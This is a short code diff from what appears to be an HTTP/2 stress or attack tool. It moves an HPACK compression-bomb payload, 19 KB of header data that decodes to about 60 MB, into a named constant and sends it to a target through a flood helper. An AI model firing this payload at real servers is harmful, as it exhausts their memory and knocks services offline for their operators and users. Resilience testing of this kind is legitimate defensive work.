@@ -218,10 +218,13 @@ def empty_headers(target: Target) -> Sent:
     return flood(target, _streams(lambda stream: wire.headers(stream, empty, end=True), 5), "blocks")
 
 
+HPACK_BOMB = _CALL + wire.field(b"x", b"v" * 4000, indexed=True) + b"\xbe" * 15_000
+"""One entry of 4 KB in the dynamic table, and 15 000 references of one byte to it."""
+
+
 def hpack_bombs(target: Target) -> Sent:
-    """One entry of 4 KB in the dynamic table, and 15 000 references of one byte to it: 60 MB in 19 KB."""
-    bomb = _CALL + wire.field(b"x", b"v" * 4000, indexed=True) + b"\xbe" * 15_000
-    return flood(target, _streams(lambda stream: wire.headers(stream, bomb, end=True), 1), "blocks")
+    """Header blocks of 19 KB that mean 60 MB."""
+    return flood(target, _streams(lambda stream: wire.headers(stream, HPACK_BOMB, end=True), 1), "blocks")
 
 
 def empty_messages(target: Target) -> Sent:
